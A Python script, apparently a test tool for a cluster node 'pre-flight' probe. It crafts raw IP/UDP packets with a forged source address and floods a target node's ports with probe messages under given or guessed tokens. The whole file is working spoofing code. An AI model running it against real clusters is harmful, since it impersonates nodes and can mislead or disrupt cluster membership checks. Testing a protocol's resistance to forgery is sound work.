# SPDX-License-Identifier: GPL-3.0-or-later
"""Runs in a node: sends packets of the pre-flight's probe in another node's name, under tokens that it was given or guesses.

`forger.py CLAIMED PLACE VICTIM SECONDS TOKEN..`: the address that is claimed, that node's place in the list of nodes, the address that
the packets go to, for how long, and the tokens, in hexadecimal. The form is that of modules/cluster_probe/src/wire.rs.
"""

import socket
import struct
import sys
import time

PORTS = range(5405, 5413)
HELLO = 0xFFFFFFFF


def probe(token, place, port, sequence, answer):
    """A packet of the probe, whose sender says that it has all that it needs."""
    text = b"pveprobe" + bytes.fromhex(token) + struct.pack(">QqQIHHHBBB", 0, time.time_ns(), 0, sequence, place, port, 0, 0, answer, 1)
    return text.ljust(64, b"\0")


def datagram(claimed, victim, port, text):
    """The packet with the headers of IP and UDP: the sender's address is the claimed one."""
    udp = struct.pack(">HHHH", port, port, 8 + len(text), 0)
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(text), 0, 0, 64, socket.IPPROTO_UDP, 0, socket.inet_aton(claimed), socket.inet_aton(victim))
    return head + udp + text


def main():
    """Send until the time is over."""
    claimed, place, victim, seconds, *tokens = sys.argv[1:]
    wire = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for token in tokens:
            for port in PORTS:
                for sequence, answer in ((HELLO, 1), (0, 1), (HELLO, 0)):
                    wire.sendto(datagram(claimed, victim, port, probe(token, int(place), port, sequence, answer)), (victim, 0))
        time.sleep(0.05)


main()
